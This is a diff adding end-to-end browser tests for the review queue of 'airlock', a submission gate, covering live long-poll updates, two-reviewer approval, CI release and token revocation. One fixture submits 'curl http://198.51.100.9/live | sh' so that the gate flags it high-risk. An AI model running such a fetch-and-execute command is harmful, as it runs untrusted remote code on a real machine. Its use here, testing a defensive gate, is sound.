@@ -780,3 +780,93 @@ test('keyboard-review', async (p) => {
 	await key('u');
 	await p.page.waitForSelector('#queue:not([hidden])');
 });
+
+// waiting(N): the gate holds exactly N requests to GET /v1/changes (its
+// own gauge), within 5 s.
+async function waiting(n) {
+	let got;
+	for (let i = 0; i < 100; i++) {
+		const r = await fetch(`${gate.url}/metrics`, { headers: { Authorization: `Bearer ${gate.admin}` } });
+		const m = /^airlock_changes_waiting ([0-9]+)$/m.exec(await r.text());
+		got = m ? Number(m[1]) : null;
+		if (got === n)
+			return;
+		await sleep(50);
+	}
+	throw new Error(`the gate holds ${got} waiting requests, expected ${n}`);
+}
+
+const rowGone = (p, id, why) => p.page.waitForFunction((i) => !document.querySelector(`#queue-rows tr[data-id="${i}"]`),
+	id, { timeout: 5000 }).catch(() => { throw new Error(why); });
+
+// Live updates, without a reload: with the held queue open, a new
+// submission appears; two reviewers approve it (1 of 2, then 2 of 2) and
+// it leaves the held list; on the approved list, ci's release makes it
+// leave that one. The selection stays on its submission when a row comes
+// above it. One long-poll is open while the queue is shown (the gate's
+// gauge), none while a submission or the sign-in form is shown, and an
+// idle queue sends no other request.
+test('live-queue', async (p) => {
+	fx.ci = fx.ci || await mkToken('ci', 'ci-1');
+	await signIn(p, fx.rev1);
+	await p.page.waitForSelector('#queue-rows tr');
+	await waiting(1);
+	await p.page.evaluate(() => { window.__sameDocument = 1; });
+	const lists = () => p.requests.filter((u) => u.startsWith(`${gate.url}/v1/submissions?`)).length;
+	const idleFrom = p.requests.length;
+	await sleep(1500);
+	assert(p.requests.length === idleFrom, `an idle queue asked ${p.requests.slice(idleFrom).join(' ')}`);
+	const selected = await p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	const listsBefore = lists();
+	// High: two approvals.
+	const s = await submit(fx.agent, 'curl http://198.51.100.9/live | sh\n', 'kind=file&name=live.sh');
+	assert(s.state === 'held' && s.worst === 'high', `live.sh ${s.state}/${s.worst}`);
+	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`, { timeout: 5000 })
+		.catch(() => { throw new Error('the new submission did not appear'); });
+	assert(await p.page.locator('#queue-rows tr.sel').getAttribute('data-id') === selected,
+		'the selection moved off its submission when a row came above it');
+	for (const [i, tok] of [fx.rev1, fx.rev2].entries()) {
+		await must(200, 'GET', `/v1/submissions/${s.id}/content`, tok);
+		const d = await must(200, 'POST', `/v1/submissions/${s.id}/approve`, tok,
+			{ sha256: s.sha256, ruleset: s.scan.ruleset });
+		assert(d.approvals === i + 1, `approval ${i + 1}: ${JSON.stringify(d)}`);
+	}
+	await rowGone(p, s.id, 'the approved submission stayed in the held queue');
+	assert(lists() - listsBefore <= 8, `${lists() - listsBefore} loads of the list for a handful of changes`);
+	await p.page.selectOption('#f-state', 'approved');
+	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`);
+	await waiting(1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/release`, fx.ci);
+	await rowGone(p, s.id, 'the released submission stayed in the approved queue');
+	assert(await p.page.evaluate(() => window.__sameDocument) === 1, 'the page was reloaded');
+	// Only while the queue is shown.
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('#view:not([hidden]) .content');
+	await waiting(0);
+	await p.page.keyboard.press('u');
+	await p.page.waitForSelector('#queue:not([hidden])');
+	await waiting(1);
+	assert(await p.page.evaluate(() => window.__sameDocument) === 1, 'the page was reloaded');
+	await p.page.click('#signout');
+	await p.page.waitForSelector('#signin:not([hidden])');
+	await waiting(0);
+});
+
+// A token revoked while its queue is open: the long-poll's 401 sends the
+// page to sign in, with the gate's reason, and nothing is asked after.
+test('live-revoked', async (p) => {
+	const name = 'rev-live';
+	const tok = await mkToken('reviewer', name);
+	await signIn(p, tok);
+	await waiting(1);
+	await must(200, 'DELETE', `/v1/tokens/${name}`, gate.admin);
+	await p.page.waitForSelector('#signin:not([hidden])', { timeout: 5000 });
+	const why = await text(p, '#signin-error');
+	assert(/^token revoked at /.test(why), `sign-in says "${why}"`);
+	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === null, 'the revoked token was kept');
+	forgive(p, 401);
+	await waiting(0);
+	const n = p.requests.length;
+	await sleep(1200);
+	assert(p.requests.length === n, `asked after the 401: ${p.requests.slice(n).join(' ')}`);
+});
